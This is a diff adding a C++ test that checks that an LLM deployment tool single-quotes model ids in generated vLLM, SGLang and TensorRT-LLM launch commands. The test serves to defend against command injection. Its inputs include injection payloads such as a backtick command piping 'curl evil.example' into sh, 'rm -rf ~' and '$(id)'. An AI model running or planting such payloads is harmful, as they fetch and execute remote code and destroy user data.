@@ -8,6 +8,7 @@
 
 #include "analysis/steps.hpp"
 #include "helpers.hpp"
+#include "io/presets.hpp"
 #include "runtime/scheduler.hpp"
 #include "serving/deploy.hpp"
 #include "serving/serving.hpp"
@@ -816,4 +817,44 @@ TEST_CASE("load.requests counts what was served over the busy replicas and pipel
   const auto st = api_value("serving", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"},
                                         {"serving", {{"concurrency", 8}, {"requests", 100}, {"simulate", false}}}});
   CHECK(st["load"]["requests"] == 100);
+}
+
+TEST_CASE("launch commands hold the model id as one shell word", "[serving][deploy][security]") {
+  DeployConfig c;
+  c.plan.tp = 2;
+  c.batch = 64;
+  c.token_budget = 2048;
+  Workload w;
+  const auto vllm = [&](const std::string& repo) { return launch_commands(c, repo, w).vllm; };
+  const std::string tail = " --tensor-parallel-size 2 --max-num-seqs 64 --max-num-batched-tokens 2048 --gpu-memory-utilization 0.9";
+  // A Hugging Face id is written as it is.
+  CHECK(vllm("meta-llama/Llama-3.1-8B") == "vllm serve meta-llama/Llama-3.1-8B" + tail);
+  CHECK(vllm("org/model-v1.5_x+y@main:rev") == "vllm serve org/model-v1.5_x+y@main:rev" + tail);
+  // What a model document's source or id holds runs nothing: in single quotes (the audit's two reproducers).
+  CHECK(vllm("meta-llama/x`touch${IFS}/tmp/pwned`&&curl${IFS}evil.example|sh") ==
+        "vllm serve 'meta-llama/x`touch${IFS}/tmp/pwned`&&curl${IFS}evil.example|sh'" + tail);
+  CHECK(vllm("x;rm${IFS}-rf${IFS}~;#") == "vllm serve 'x;rm${IFS}-rf${IFS}~;#'" + tail);
+  CHECK(vllm("a'b $(id)") == "vllm serve 'a'\\''b $(id)'" + tail);
+  // An option, a line break or nothing: the placeholder.
+  CHECK(vllm("--trust-remote-code") == "vllm serve MODEL" + tail);
+  CHECK(vllm("x\nrm -rf ~") == "vllm serve MODEL" + tail);
+  CHECK(vllm("") == "vllm serve MODEL" + tail);
+  const LaunchCommands l = launch_commands(c, "x;id", w);
+  CHECK(l.sglang.rfind("python -m sglang.launch_server --model-path 'x;id' --tp 2", 0) == 0);
+  CHECK(l.trtllm.rfind("trtllm-serve 'x;id' --tp_size 2", 0) == 0);
+  c.disaggregated = true;
+  c.prefill = c.plan;
+  const LaunchCommands d = launch_commands(c, "x;id", w);
+  CHECK(d.vllm.find("vllm serve x;id") == std::string::npos);
+  CHECK(d.vllm.find("vllm serve 'x;id'") != std::string::npos);
+  CHECK(d.sglang.find("--model-path 'x;id'") != std::string::npos);
+  // Through the API: the audit's preset document, whose source carries the command.
+  const nlohmann::json doc = {{"schema_version", 1}, {"id", "llama-3.1-8b"}, {"name", "Llama-3.1-8B"},
+                              {"source", "https://huggingface.co/meta-llama/x`touch${IFS}/tmp/pwned`&&curl${IFS}evil.example|sh"},
+                              {"stated_params", {{"total", "8B"}}}, {"config", find_model_preset("llama-3.1-8b")->config}};
+  const auto v = api_value("deploy", {{"model", doc}, {"hardware", "nvidia-h100-sxm"}, {"deploy", {{"devices", 8}, {"disaggregated", "off"}}},
+                                      {"serving", {{"isl", 1024}, {"osl", 256}}}});
+  REQUIRE(v["best"].is_object());
+  CHECK(v["best"]["launch"]["vllm"].get<std::string>().rfind(
+            "vllm serve 'meta-llama/x`touch${IFS}/tmp/pwned`&&curl${IFS}evil.example|sh' --tensor-parallel-size ", 0) == 0);
 }
